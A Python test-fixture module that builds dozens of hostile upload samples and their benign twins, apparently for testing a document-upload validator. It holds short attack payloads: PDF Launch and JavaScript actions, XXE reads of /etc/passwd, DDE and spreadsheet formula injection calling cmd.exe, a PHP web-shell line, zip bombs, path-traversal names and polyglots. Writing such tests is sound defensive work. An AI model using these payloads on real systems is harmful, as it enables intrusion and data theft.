"""Files somebody might send to do harm or by mistake, and their harmless twins: (name, content) by what they are."""

import io
import struct
import warnings
import zipfile

from papers import (
    BODY,
    BOOK,
    GOOD_PDF,
    TYPES,
    chunk,
    docx,
    jpeg,
    ofd,
    package,
    packed_object,
    patched,
    png,
    real_docx,
    real_xlsx,
    relation,
    with_catalog,
    with_object,
    xlsx,
)  # fmt: skip

Cases = dict[str, tuple[str, bytes]]
PAGE = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ZIP = package({"a.txt": b"a"})
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PROGRAM = b"MZ\x90\x00" + b"\x00" * 200


def _named() -> Cases:
    """A good paper under a name that deceives."""
    names = {
        "right-to-left override": "合同\u202efdp.exe.pdf", "left-to-right embedding": "合同\u202a.pdf", "isolate": "合同\u2066.pdf",
        "pop isolate": "合同\u2069.pdf", "arabic mark": "合同\u061c.pdf", "right-to-left mark": "合同\u200f.pdf",
        "zero-width space": "合\u200b同.pdf", "zero-width joiner": "合\u200d同.pdf", "word joiner": "合\u2060同.pdf",
        "byte order mark": "\ufeff合同.pdf", "soft hyphen": "合\u00ad同.pdf", "hangul filler": "合\u3164同.pdf",
        "tag characters": "合同\U000e0041.pdf", "NUL": "合同.exe\x00.pdf", "line end": "合同\n.pdf", "carriage return": "合同\r\nX: y.pdf",
        "tab": "合\t同.pdf", "escape": "合同\x1b[31m.pdf", "delete": "合同\x7f.pdf", "private use": "合同\ue000.pdf",
        "climbing": "../../../etc/合同.pdf", "climbing, backslashes": "..\\..\\合同.pdf", "absolute": "/etc/合同.pdf",
        "drive": "C:\\合同.pdf", "network": "\\\\host\\share\\合同.pdf", "alternate stream": "合同.pdf:evil.pdf", "star": "合*同.pdf",
        "question mark": "合?同.pdf", "quote": '合"同.pdf', "angle": "<img src=x>.pdf", "bar": "合|同.pdf",
        "device CON": "CON.pdf", "device con": "con.pdf", "device NUL": "NUL.pdf", "device AUX": "aux.tar.pdf", "device PRN": "PRN.pdf",
        "device COM1": "COM1.pdf", "device LPT9": "lpt9.pdf", "trailing dot": "合同.pdf.", "only dots": "..", "one dot": ".",
        "no extension": "合同", "too long": "长" * 220 + ".pdf",
    }  # fmt: skip
    cases = {f"name: {what}": (name, GOOD_PDF) for what, name in names.items()}
    for ending in (
        "exe",
        "bat",
        "cmd",
        "scr",
        "js",
        "vbs",
        "ps1",
        "jar",
        "lnk",
        "hta",
        "msi",
        "html",
        "svg",
        "php",
        "docm",
        "xlsm",
    ):
        cases[f"name: {ending} before pdf"] = (f"说明.{ending}.pdf", GOOD_PDF)
        cases[f"name: {ending} after pdf"] = (f"说明.pdf.{ending}", GOOD_PDF)
    return cases


def _mislabelled() -> Cases:
    """Contents of one kind under the ending of another, and kinds that are not taken at all."""
    cases: Cases = {"empty": ("租约.pdf", b""), "one byte": ("租约.pdf", b"%")}
    good = {"pdf": GOOD_PDF, "png": png(), "jpg": jpeg(), "docx": docx(), "xlsx": xlsx(), "ofd": ofd()}
    for ending in good:
        for other, content in good.items():
            if other != ending:
                cases[f"{other} named {ending}"] = (f"文件.{ending}", content)
    foreign = {
        "html": PAGE, "svg": SVG, "exe": PROGRAM, "zip": ZIP, "doc": OLE, "xls": OLE + b"Workbook", "ppt": OLE + b"PowerPoint Document", "gif": b"GIF89a" + b"\x01\x00\x01\x00" * 9,
        "webp": b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 20, "bmp": b"BM" + b"\x00" * 60, "tiff": b"II*\x00" + b"\x00" * 60, "rtf": b"{\\rtf1 x}",
        "js": b"alert(1)", "bat": b"@echo off\r\n", "ps1": b"Write-Host 1", "sh": b"#!/bin/sh\n", "php": b"<?php phpinfo();", "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68,
        "jar": package({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}), "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
        "rar": b"Rar!\x1a\x07\x00" + b"\x00" * 30, "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 30, "gz": b"\x1f\x8b\x08" + b"\x00" * 30, "eml": b"MIME-Version: 1.0\r\n",
        "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related", "url": b"[InternetShortcut]\r\nURL=file:///x", "xml": b"<?xml version='1.0'?><x/>",
        "txt": b"plain", "csv": b"a,b\r\n1,2\r\n", "mp4": b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 20, "ps": b"%!PS-Adobe-3.0\n", "ttf": b"\x00\x01\x00\x00" + b"\x00" * 40,
    }  # fmt: skip
    for kind, content in foreign.items():
        cases[f"{kind} as itself"] = (f"文件.{kind}", content)
        cases[f"{kind} named pdf"] = ("文件.pdf", content)
    for kind in ("zip", "exe", "html", "svg", "doc", "jar"):
        cases[f"{kind} named docx"] = ("文件.docx", foreign[kind])
        cases[f"{kind} named png"] = ("文件.png", foreign[kind])
    return cases


def _pictures() -> Cases:
    text = chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")
    huge = chunk(b"zTXt", b"x\x00\x00" + b"\x00" * (5 * 1024 * 1024))
    return {
        "png and zip": ("照片.png", png() + ZIP), "png and page": ("照片.png", png() + PAGE), "png and program": ("照片.png", png() + PROGRAM),
        "png and pdf": ("照片.png", png() + GOOD_PDF), "png and php": ("照片.png", png() + b"<?php system($_GET[0]);"),
        "png with script in its remark": ("照片.png", png(1, 1, text)), "png with enormous remark": ("照片.png", png(1, 1, huge)),
        "png with svg in its remark": ("照片.png", png(1, 1, chunk(b"iTXt", SVG))), "png far too wide": ("照片.png", png(60_000, 1)),
        "png far too high": ("照片.png", png(1, 2**31 - 1)), "png of too many dots": ("照片.png", png(19_000, 19_000)), "png of no size": ("照片.png", png(0, 0)),
        "png cut short": ("照片.png", png()[:-14]), "png without dots": ("照片.png", png()[:33] + chunk(b"IEND", b"")), "png signature alone": ("照片.png", png()[:8]),
        "png with odd first block": ("照片.png", png()[:8] + chunk(b"tEXt", b"a") + png()[8:]), "png with lying length": ("照片.png", png()[:8] + b"\xff\xff\xff\xff" + png()[12:]),
        "jpeg and zip": ("照片.jpg", jpeg() + ZIP), "jpeg and page": ("照片.jpg", jpeg(tail=PAGE)), "jpeg and jar": ("照片.jpg", jpeg() + package({"X.class": b"\xca\xfe"})),
        "jpeg and program": ("照片.jpg", jpeg(tail=PROGRAM)), "jpeg and pdf": ("照片.jpg", jpeg(tail=GOOD_PDF)), "jpeg with script in its remark": ("照片.jpg", jpeg(note=b"<script>alert(1)</script>")),
        "jpeg with php in its remark": ("照片.jpg", jpeg(note=b"<?php system('id');")), "jpeg far too large": ("照片.jpg", jpeg(65_000, 65_000)), "jpeg of no size": ("照片.jpg", jpeg(0, 1)),
        "jpeg cut short": ("照片.jpg", jpeg()[:-2]), "jpeg start alone": ("照片.jpg", b"\xff\xd8\xff\xe0"), "jpeg with lying block": ("照片.jpg", b"\xff\xd8\xff\xe0\xff\xff" + b"\x00" * 20),
        "jpeg without frame": ("照片.jpg", b"\xff\xd8\xff\xe0\x00\x04\x00\x00\xff\xda\x00\x04\x00\x00\x3f\xff\xd9"),
    }  # fmt: skip


def _papers() -> Cases:
    cases: Cases = {}
    for what, text in {
        "script on opening": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "script by reference": b"/OpenAction 9 0 R /X << /S /JavaScript >>",
        "escaped name": b"/OpenAction << /S /J#61vaScript /JS (1) >>", "fully escaped name": b"/A << /S /#4a#61#76#61#53#63#72#69#70#74 >>",
        "program": b"/A << /S /Launch /F (cmd.exe) >>", "escaped program": b"/A << /S /L#61unch /F (cmd.exe) >>", "form sent away": b"/A << /S /SubmitForm /F (http://example.test) >>",
        "data taken in": b"/A << /S /ImportData /F (x.fdf) >>", "jump into an attachment": b"/A << /S /GoToE >>", "attachments": b"/Names << /EmbeddedFiles 8 0 R >>",
        "film": b"/A << /S /Rendition >>", "rich media": b"/Annots [<< /Subtype /RichMedia >>]", "dynamic form": b"/AcroForm << /XFA [(a) 7 0 R] >>",
        "page on opening": b"/OpenAction << /S /URI /URI (http://example.test) >>", "print on opening": b"/OpenAction << /S /Named /N /Print >>",
        "page on an event": b"/AA << /O << /S /URI /URI (http://example.test) >> >>", "jump to another file": b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share) >>",
        "hidden layers shown": b"/A << /S /SetOCGState >>",
    }.items():  # fmt: skip
        cases[f"pdf: {what}"] = ("租约.pdf", with_catalog(text))
    attached = b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nMZ\x90\nendstream"
    cases |= {
        "pdf: attached file": ("租约.pdf", with_object(attached)), "pdf: attachment as remark": ("租约.pdf", with_object(b"<< /Subtype /FileAttachment /FS << /Type /Filespec >> >>")),
        "pdf: script in packed objects": ("租约.pdf", packed_object(b"<< /S /JavaScript /JS (1) >>")), "pdf: program in packed objects": ("租约.pdf", packed_object(b"<< /S /Launch >>")),
        "pdf: escaped script in packed objects": ("租约.pdf", packed_object(b"<< /S /Java#53cript >>")), "pdf: twice packed objects": ("租约.pdf", packed_object(b"<< >>", b"[/ASCII85Decode /FlateDecode]")),
        "pdf: packed objects of another kind": ("租约.pdf", packed_object(b"<< >>", b"/LZWDecode")), "pdf: packed objects that do not unpack": ("租约.pdf", with_object(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream")),
        "pdf: packed objects that never end": ("租约.pdf", packed_object(b"0" * (17 * 1024 * 1024))), "pdf: page on opening by reference": ("租约.pdf", with_catalog(b"/OpenAction 99 0 R").replace(b"%%EOF", b"99 0 obj\n<< /S /URI /URI (http://example.test) >>\nendobj\n%%EOF")),
        "pdf: locked": ("租约.pdf", GOOD_PDF.replace(b"trailer\n<<", b"trailer\n<< /Encrypt 9 0 R").replace(b"trailer <<", b"trailer << /Encrypt 9 0 R")), "pdf: escaped lock": ("租约.pdf", with_catalog(b"/#45ncrypt 9 0 R")),
        "pdf and zip": ("租约.pdf", GOOD_PDF + ZIP), "pdf and jar": ("租约.pdf", GOOD_PDF + package({"X.class": b"\xca\xfe"})), "pdf and page": ("租约.pdf", GOOD_PDF + PAGE), "page and pdf": ("租约.pdf", PAGE + GOOD_PDF),
        "page within the beginning of a pdf": ("租约.pdf", GOOD_PDF[:9] + b"% " + PAGE + b"\n" + GOOD_PDF[9:]), "pdf cut short": ("租约.pdf", GOOD_PDF[: len(GOOD_PDF) // 2]), "pdf: first line alone": ("租约.pdf", b"%PDF-1.7\n"),
        "pdf with much behind it": ("租约.pdf", GOOD_PDF + b"\x00" * 10_000), "picture and pdf": ("租约.pdf", png() + GOOD_PDF),
    }  # fmt: skip
    return cases


def _field(text: bytes) -> bytes:
    return (
        b'<w:document xmlns:w="x"><w:p><w:r><w:instrText>' + text + b"</w:instrText></w:r></w:p></w:document>"
    )


def _sheet(formula: bytes) -> bytes:
    return (
        b'<worksheet><sheetData><row r="1"><c r="A1"><f>'
        + formula
        + b"</f></c></row></sheetData></worksheet>"
    )


DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'


def _inside_documents() -> Cases:
    made: Cases = {}
    active = (
        "word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml", "word/activeX/activeX1.bin", "word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin", "word/embeddings/run.exe",
        "word/embeddings/a.js", "word/embeddings/a.vbs", "word/embeddings/a.hta", "word/embeddings/a.lnk", "word/embeddings/a.bat", "word/embeddings/a.ps1", "word/embeddings/a.jar", "word/afchunk.html",
        "word/afchunk.mht", "word/afchunk.rtf", "word/media/inner.zip", "word/embeddings/a.dll", "word/embeddings/a.scr",
    )  # fmt: skip
    for name in active:
        made[f"docx with {name}"] = ("合同.docx", docx(**{name: b"x"}))
    for name in (
        "xl/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/dialogsheets/sheet1.xml",
        "xl/ctrlProps/ctrlProp1.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
    ):
        made[f"xlsx with {name}"] = ("名册.xlsx", xlsx(**{name: b"<x/>"}))
    for name in (
        "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml",
        "xl/queryTables/queryTable1.xml",
    ):
        made[f"xlsx with {name}"] = ("名册.xlsx", xlsx(**{name: b"<x/>"}))
    for kind in (
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
        b"application/vnd.ms-office.vbaProject",
        b"application/vnd.ms-excel.macrosheet+xml",
    ):
        made[f"declared as {kind.decode()}"] = (
            "合同.docx",
            docx(**{"[Content_Types].xml": b"<Types><Override ContentType='" + kind + b"'/></Types>"}),
        )
    kinds = [
        "attachedTemplate",
        "oleObject",
        "frame",
        "subDocument",
        "image",
        "externalLinkPath",
        "video",
        "audio",
    ]
    for kind in kinds:
        link = b'Type="http://x/%s" Target="http://example.test/x" TargetMode="External"' % kind.encode()
        made[f"outside {kind}"] = ("合同.docx", docx(**{"word/_rels/settings.xml.rels": relation(link)}))
    for what, link in {
        "single quotes": b"Type='http://x/attachedTemplate' Target='http://example.test/x' TargetMode='External'", "character reference": b'Type="http://x/attachedTemplate" Target="http://example.test/x" TargetMode="&#69;xternal"',
        "network path": b'Type="http://x/image" Target="\\\\host\\share\\x.png"', "address without mode": b'Type="http://x/attachedTemplate" Target="http://example.test/x.dotm"',
        "link to a file": b'Type="http://x/hyperlink" Target="file:///c:/windows/system32/cmd.exe" TargetMode="External"', "link to a script": b'Type="http://x/hyperlink" Target="javascript:alert(1)" TargetMode="External"',
        "link to a program protocol": b'Type="http://x/hyperlink" Target="ms-msdt:/id" TargetMode="External"', "inserted page": b'Type="http://x/aFChunk" Target="page.txt"', "object": b'Type="http://x/oleObject" Target="embeddings/x.dat"',
    }.items():  # fmt: skip
        made[f"relation: {what}"] = ("合同.docx", docx(**{"word/_rels/document.xml.rels": relation(link)}))
    parts = (
        "word/document.xml",
        "[Content_Types].xml",
        "word/styles.xml",
        "docProps/app.xml",
        "customXml/item1.xml",
        "word/_rels/document.xml.rels",
    )
    for name in parts:
        made[f"entities in {name}"] = ("合同.docx", docx(**{name: DOCTYPE}))
    for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
        made[f"entities in {name}"] = ("名册.xlsx", xlsx(**{name: DOCTYPE}))
    made["entities that grow"] = ("合同.docx", docx(**{"word/styles.xml": LAUGHS}))
    made["entities in UTF-16"] = ("合同.docx", docx(**{"word/styles.xml": DOCTYPE.decode().encode("utf-16")}))
    made["entities in OFD"] = ("发票.ofd", ofd(**{"Doc_0/Pages/Page_0/Content.xml": DOCTYPE}))
    made["svg with script inside"] = ("合同.docx", docx(**{"word/media/image1.svg": SVG}))
    for text in (
        b"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        b"DDE excel x",
        b"INCLUDEPICTURE http://example.test/x",
        b"INCLUDETEXT \\\\\\\\host\\\\x",
        b"MACROBUTTON x",
        b"QUOTE 68 68 69",
    ):
        made[f"field {text[:14].decode()}"] = ("合同.docx", docx(**{"word/document.xml": _field(text)}))
    made["field in pieces"] = ("合同.docx", docx(**{"word/document.xml": _field(b"DD") + _field(b"EAUTO x")}))
    made["field in a header"] = ("合同.docx", docx(**{"word/header1.xml": _field(b"DDEAUTO x")}))
    made["simple field"] = (
        "合同.docx",
        docx(**{"word/document.xml": b'<w:document><w:fldSimple w:instr="DDEAUTO x"/></w:document>'}),
    )
    for text in (
        b"cmd|'/C calc'!A0",
        b"MSEXCEL|'\\..\\cmd.exe'!x",
        b'WEBSERVICE("http://example.test")',
        b'CALL("urlmon","x")',
        b'REGISTER("k","x")',
        b'EXEC("calc")',
        b'RTD("x",,"y")',
    ):
        made[f"formula {text[:12].decode()}"] = (
            "名册.xlsx",
            xlsx(**{"xl/worksheets/sheet1.xml": _sheet(text)}),
        )
    made["document within a document within a document"] = (
        "合同.docx",
        docx(**{"word/embeddings/a.docx": docx(**{"word/embeddings/b.xlsx": xlsx()})}),
    )
    made["macros in an embedded workbook"] = (
        "合同.docx",
        docx(**{"word/embeddings/a.xlsx": xlsx(**{"xl/vbaProject.bin": b"x"})}),
    )
    return made


def _directories() -> Cases:
    """Packages whose directory deceives."""
    made: Cases = {}
    for name in (
        "../../../etc/cron.d/x",
        "word\\..\\..\\x",
        "/etc/passwd",
        "C:/windows/x",
        "word/./x",
        "word/con.xml",
        "word/aux",
        "word/ x",
        "word/\u202ex",
        "word/a\x01b",
        "w" * 300,
    ):
        made[f"entry {name[:20]!r}"] = ("合同.docx", docx(**{name: b"x"}))
    plain, big = docx(**{"word/media/x.bin": b"0" * 1000}), b"\x00" * (30 * 1024 * 1024)
    many = package({"word/document.xml": BODY, **{f"word/{n}": b"" for n in range(2001)}})
    link = zipfile.ZipInfo("word/link")
    link.external_attr = 0o120777 << 16
    made |= {
        "symbolic link": ("合同.docx", _written([("word/document.xml", BODY), (link, b"/etc/passwd")])), "same part twice": ("合同.docx", _written([("word/document.xml", BODY), ("word/document.xml", b"<w:other/>")])),
        "same part in capitals": ("合同.docx", _written([("word/document.xml", BODY), ("word/Document.xml", b"<w:other/>")])), "bomb by claim": ("合同.docx", patched(plain, 24, struct.pack("<I", 3 * 1024**3))),
        "bomb by ratio": ("合同.docx", docx(**{"word/media/x.bin": big})), "bomb in a workbook": ("名册.xlsx", xlsx(**{"xl/worksheets/sheet1.xml": big})), "bomb in OFD": ("发票.ofd", ofd(**{"Doc_0/Res/x.bin": big})), "bomb by number": ("合同.docx", many),
        "bomb by nesting": ("合同.docx", docx(**{"word/media/x.zip": package({"y.zip": ZIP})})), "smaller claim than content": ("合同.docx", patched(docx(**{"word/header1.xml": BODY + b" " * 5000}), 24, struct.pack("<I", 10))),
        "locked entry": ("合同.docx", patched(plain, 8, b"\x01\x00")), "strongly locked entry": ("合同.docx", patched(plain, 8, b"\x41\x00")), "unknown packing": ("合同.docx", patched(plain, 10, b"\x63\x00")), "packing of LZMA": ("合同.docx", package({"word/document.xml": BODY}, zipfile.ZIP_LZMA)),
        "packing of BZIP2": ("合同.docx", package({"word/document.xml": BODY}, zipfile.ZIP_BZIP2)), "overlapping entries": ("合同.docx", patched(plain, 42, b"\x00\x00\x00\x00")), "remark behind": ("合同.docx", package({"word/document.xml": BODY}, comment=PAGE)),
        "bytes behind": ("合同.docx", docx() + PAGE), "another directory behind": ("合同.docx", docx() + package({"word/document.xml": BODY, "x.exe": b"x"})), "two kinds at once": ("合同.docx", package({"word/document.xml": BODY, "xl/workbook.xml": BOOK})),
        "no main part": ("合同.docx", package({"[Content_Types].xml": TYPES})), "cut short": ("合同.docx", real_docx()[:-400]), "broken": ("合同.docx", b"PK\x03\x04" + b"\x00" * 40), "directory alone": ("合同.docx", package({})), "damaged part": ("合同.docx", _damaged()),
        "presentation named docx": ("合同.docx", package({"ppt/presentation.xml": b"<p/>"})), "binary workbook": ("名册.xlsx", package({"[Content_Types].xml": TYPES, "xl/workbook.bin": b"x"})), "macro document": ("合同.docm", docx(**{"word/vbaProject.bin": b"x"})), "macro workbook": ("名册.xlsm", xlsx(**{"xl/vbaProject.bin": b"x"})),
        "template": ("合同.dotm", docx()), "program in OFD": ("发票.ofd", ofd(**{"Doc_0/Res/run.exe": b"MZ"})), "path out of OFD": ("发票.ofd", ofd(**{"../x.xml": b"<x/>"})),
    }  # fmt: skip
    return made


def _written(entries: list[tuple[str | zipfile.ZipInfo, bytes]]) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as made:
        warnings.simplefilter("ignore")
        for name, body in entries:
            made.writestr(name, body)
    return out.getvalue()


def _damaged() -> bytes:
    made = bytearray(package({"word/document.xml": BODY + bytes(range(256)) * 4}, zipfile.ZIP_STORED))
    made[120] ^= 0xFF
    return bytes(made)


HOSTILE: Cases = {
    **_named(),
    **_mislabelled(),
    **_pictures(),
    **_papers(),
    **_inside_documents(),
    **_directories(),
}

LINK = b'Type="http://x/hyperlink" Target="https://example.test/" TargetMode="External"'
GOOD: Cases = {
    "pdf": ("租约.pdf", GOOD_PDF), "PDF in capitals": ("租约.PDF", GOOD_PDF), "pdf that opens at a page": ("租约.pdf", with_catalog(b"/OpenAction [3 0 R /Fit]")), "pdf that turns to a page": ("租约.pdf", with_catalog(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    "pdf with packed objects": ("租约.pdf", packed_object(b"<< /Type /Font >>")), "pdf with a link": ("租约.pdf", with_object(b"<< /Subtype /Link /A << /S /URI /URI (https://example.test) >> >>")), "pdf with a space in a name": ("租约.pdf", with_object(b"<< /BaseFont /Sim#20Sun >>")),
    "pdf with a line end behind it": ("租约.pdf", GOOD_PDF + b"\r\n"), "png": ("照片.png", png()), "png with a remark": ("照片.png", png(1, 1, chunk(b"tEXt", b"Comment\x00plain"))), "jpeg": ("照片.jpg", jpeg()), "jpeg by its long name": ("照片.jpeg", jpeg()),
    "jpeg with padding behind": ("照片.jpg", jpeg(tail=b"\x00" * 16)), "large picture": ("照片.jpg", jpeg(8000, 6000)), "small docx": ("协议.docx", docx()), "docx of a word processor": ("协议.docx", real_docx()), "xlsx of a spreadsheet program": ("名册.xlsx", real_xlsx()),
    "docx with a link": ("协议.docx", docx(**{"word/_rels/document.xml.rels": relation(LINK)})), "docx with a chart's workbook": ("协议.docx", docx(**{"word/embeddings/Sheet1.xlsx": xlsx()})), "docx with a drawing": ("协议.docx", docx(**{"word/media/image1.svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>"})),
    "docx with page numbers": ("协议.docx", docx(**{"word/document.xml": _field(b" PAGE ")})), "xlsx with a sum": ("名册.xlsx", xlsx(**{"xl/worksheets/sheet1.xml": _sheet(b"SUM(A1:A9)&amp;&quot;a|b&quot;")})), "xlsx": ("名册.xlsx", xlsx()), "ofd": ("发票.ofd", ofd()),
    "name with dots": ("示例公司 v1.2（终稿）.pdf", GOOD_PDF), "name of an address": ("www.example.com.pdf", GOOD_PDF), "name with console": ("console.pdf", GOOD_PDF), "long name": ("长" * 150 + ".pdf", GOOD_PDF), "rare character": ("𠮷田合同.pdf", GOOD_PDF),
}  # fmt: skip
